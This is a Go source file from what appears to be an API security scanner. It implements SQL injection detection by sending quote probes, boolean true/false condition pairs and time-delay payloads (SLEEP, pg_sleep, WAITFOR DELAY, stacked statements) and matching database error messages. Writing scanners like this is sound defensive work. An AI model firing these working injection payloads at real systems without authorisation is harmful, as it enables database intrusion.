package injection

import (
	"context"
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"time"

	"github.com/rampartsec/rampart/internal/attack/core"
)

// defaultDelay is how long a time-based SQL probe asks the database to
// wait. Each input costs at most two such waits, and only on an endpoint
// that did wait the first time.
const defaultDelay = 1500 * time.Millisecond

// sqlErrors are database error messages that reach a client when a quote
// breaks the query: MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite,
// DB2, Firebird and the generic drivers.
var sqlErrors = regexp.MustCompile(`(?i)` + strings.Join([]string{
	`you have an error in your sql syntax`, `warning: mysqli?_`, `mysql_fetch`, `MariaDB server version`,
	`syntax error at or near`, `unterminated quoted string at or near`, `pg_query\(\)`, `PSQLException`, `PostgreSQL.{0,40}ERROR`,
	`unclosed quotation mark after the character string`, `incorrect syntax near`, `Microsoft OLE DB Provider for SQL Server`,
	`\bORA-\d{5}\b`, `quoted string not properly terminated`,
	`SQLite3?::`, `sqlite3?\.OperationalError`, `SQLITE_ERROR`, `SQL logic error`, `unrecognized token:`, `near "[^"]{0,40}": syntax error`,
	`\bDB2 SQL error`, `Dynamic SQL Error`, `SQLSTATE\[`, `java\.sql\.SQLException`, `System\.Data\.SqlClient`,
}, "|"))

// timePayloads make the common databases wait: a derived table or a
// stacked statement runs the wait once per query, not once per row.
var timePayloads = []struct{ db, tpl string }{
	{"MySQL", `' AND (SELECT 1 FROM (SELECT SLEEP(%s))x)-- -`},
	{"PostgreSQL", `' AND 1=(SELECT 1 FROM pg_sleep(%s))-- -`},
	{"PostgreSQL", `';SELECT pg_sleep(%s)-- -`},
	{"SQL Server", `';WAITFOR DELAY '0:0:%s'-- -`},
}

func newSQLi(delay time.Duration) *technique {
	c := &technique{
		id: "injection.sqli", title: "SQL injection", owasp: core.APIInjection, cwe: 89, severity: core.SeverityCritical,
		applies:  func(point) bool { return true },
		skipWhy:  "no parameters",
		perPoint: 1 + 4 + 8 + 2*len(timePayloads) + 2,
		planned:  "quote/balanced quote, boolean pairs, time delays",
		remediation: func(p point) string {
			return "Use parameterised queries for every value; never build SQL text from input. " + injectionGuard("sqli", p)
		},
	}
	c.test = func(ctx context.Context, t *trial) (*proof, string, error) {
		if pr, err := sqlError(ctx, t); pr != nil || err != nil {
			return pr, "", err
		}
		if pr, err := sqlBoolean(ctx, t); pr != nil || err != nil {
			return pr, "", err
		}
		pr, err := sqlTime(ctx, t, delay)
		return pr, "no error, boolean or time difference", err
	}
	return c
}

// sqlError: a quote provokes a database error, a second breaking payload
// does too, and a balanced quote (the same text with the quote escaped the
// SQL way) does not.
func sqlError(ctx context.Context, t *trial) (*proof, error) {
	base, err := t.baseline(ctx)
	if err != nil || !answered(base) || sqlErrors.Match(base.Body) {
		return nil, err
	}
	quote, err := t.try(ctx, plain(t.pt.orig+"'"))
	if err != nil || !answered(quote) {
		return nil, err
	}
	m := sqlErrors.Find(quote.Body)
	if m == nil {
		return nil, nil
	}
	balanced, err := t.try(ctx, plain(t.pt.orig+"''"))
	if err != nil || !answered(balanced) || sqlErrors.Match(balanced.Body) {
		return nil, err
	}
	second, err := t.try(ctx, plain(t.pt.orig+`'")`))
	if err != nil || !answered(second) || !sqlErrors.Match(second.Body) {
		return nil, err
	}
	return &proof{
		payload: t.pt.orig + "'",
		detail: fmt.Sprintf("a single quote makes the database fail (%q, status %d) and a second breaking payload does too, "+
			"while the same value with the quote doubled (valid SQL) and the value alone do not: the input is pasted into SQL text.",
			string(m), quote.Status),
		reason: "two different breaking payloads raised a database error; the balanced-quote control and the payload-free request did not",
		evidence: []core.Exchange{
			noted(quote, "probe: a single quote raises a database error"),
			noted(second, "second probe: another breaking payload raises it too"),
			noted(balanced, "control: the quote doubled (balanced) raises nothing"),
			noted(base, "control: the payload-free request"),
		},
	}, nil
}

// boolPairs put a condition after the value, in the three usual contexts:
// a quoted string that the query's own closing quote ends, a quoted string
// ended by a comment, and a number. %[1]s/%[2]s are two different words,
// %[3]d/%[4]d two different numbers.
var boolPairs = [][2]string{
	{`' AND '%[1]s'='%[1]s`, `' AND '%[1]s'='%[2]s`},
	{`' AND %[3]d=%[3]d-- -`, `' AND %[3]d=%[4]d-- -`},
	{` AND %[3]d=%[3]d`, ` AND %[3]d=%[4]d`},
}

// sqlBoolean: the always-true condition answers like the plain value, the
// always-false one differently, and a second pair with other literals
// repeats both.
func sqlBoolean(ctx context.Context, t *trial) (*proof, error) {
	base, err := t.baseline(ctx)
	if err != nil || !answered(base) {
		return nil, err
	}
	for _, pair := range boolPairs {
		sendPair := func() (*core.Response, *core.Response, string, string, error) {
			w1, w2 := randWord(), randWord()
			n1, n2 := 100+rand.IntN(800), 1000+rand.IntN(8000)
			tv := t.pt.orig + fmt.Sprintf(pair[0], w1, w2, n1, n2)
			fv := t.pt.orig + fmt.Sprintf(pair[1], w1, w2, n1, n2)
			tr, err := t.try(ctx, plain(tv))
			if err != nil || !answered(tr) {
				return nil, nil, "", "", err
			}
			fr, err := t.try(ctx, plain(fv))
			return tr, fr, tv, fv, err
		}
		tr, fr, tv, fv, err := sendPair()
		if err != nil {
			return nil, err
		}
		if tr == nil || !sameAnswer(tr, base, tv, t.pt.orig) || !answered(fr) || sameAnswer(fr, base, fv, t.pt.orig) {
			continue
		}
		tr2, fr2, tv2, fv2, err := sendPair()
		if err != nil {
			return nil, err
		}
		if tr2 == nil || !sameAnswer(tr2, base, tv2, t.pt.orig) || !answered(fr2) || !sameAnswer(fr2, fr, fv2, fv) {
			continue
		}
		return &proof{
			payload: fv,
			detail: fmt.Sprintf("appending an always-true condition leaves the answer as it is, appending an always-false one "+
				"changes it (status %d → %d, %d → %d bytes), and a second pair with other literals does the same: the condition "+
				"is evaluated by the database.", base.Status, fr.Status, len(base.Body), len(fr.Body)),
			reason: "two true/false pairs with different literals: each true variant answered like the payload-free request, each false variant differently",
			evidence: []core.Exchange{
				noted(fr, "probe: the always-false condition answers differently"),
				noted(fr2, "second probe: another always-false condition differs the same way"),
				noted(tr, "control: the always-true condition answers like the plain value"),
				noted(base, "control: the payload-free request"),
			},
		}, nil
	}
	return nil, nil
}

// sqlTime: a wait payload is slow twice, while the same payload with a
// zero wait and the payload-free request are fast.
func sqlTime(ctx context.Context, t *trial, d time.Duration) (*proof, error) {
	if !t.pt.stringy() {
		return nil, nil
	}
	base, err := t.baseline(ctx)
	if err != nil || !answered(base) || base.Duration >= d/2 {
		return nil, err
	}
	secs := fmt.Sprintf("%.1f", d.Seconds())
	limit := d*2 + 5*time.Second
	for _, tp := range timePayloads {
		pv := t.pt.orig + fmt.Sprintf(tp.tpl, secs)
		slow, err := t.tryWithin(ctx, plain(pv), limit)
		if err != nil {
			return nil, err
		}
		if slow.Duration < d*9/10 {
			continue
		}
		zero, err := t.tryWithin(ctx, plain(t.pt.orig+fmt.Sprintf(tp.tpl, "0")), limit)
		if err != nil {
			return nil, err
		}
		again, err := t.tryWithin(ctx, plain(pv), limit)
		if err != nil {
			return nil, err
		}
		if !delayed(d, []time.Duration{slow.Duration, again.Duration}, []time.Duration{base.Duration, zero.Duration}) {
			continue
		}
		return &proof{
			payload: pv,
			detail: fmt.Sprintf("a %s wait payload (%s) made the answer take %s and %s, while the same payload with a zero wait took %s "+
				"and the payload-free request %s: the database runs the injected statement.",
				tp.db, secs+"s", slow.Duration.Round(time.Millisecond), again.Duration.Round(time.Millisecond),
				zero.Duration.Round(time.Millisecond), base.Duration.Round(time.Millisecond)),
			reason: "the wait payload was slow twice by at least the requested delay; the zero-wait payload and the payload-free request were fast",
			evidence: []core.Exchange{
				noted(slow, "probe: the wait payload is slow"),
				noted(again, "second probe: slow again"),
				noted(zero, "control: the same payload with a zero wait is fast"),
				noted(base, "control: the payload-free request"),
			},
		}, nil
	}
	return nil, nil
}

// randWord is a short random lowercase word for literals.
func randWord() string {
	const letters = "abcdefghijklmnopqrstuvwxyz"
	b := make([]byte, 6)
	for i := range b {
		b[i] = letters[rand.IntN(len(letters))]
	}
	return string(b)
}
